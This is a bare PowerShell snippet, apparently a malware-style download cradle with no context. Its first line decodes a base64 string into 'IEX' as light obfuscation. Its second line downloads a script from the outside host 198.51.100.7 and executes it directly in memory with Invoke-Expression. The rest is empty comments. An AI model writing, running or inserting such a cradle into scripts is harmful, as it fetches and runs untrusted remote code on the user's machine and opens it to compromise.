$c = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String("SQBFAFgA"))
IEX (New-Object Net.WebClient).DownloadString("http://198.51.100.7/s")
<# comment #>
# note
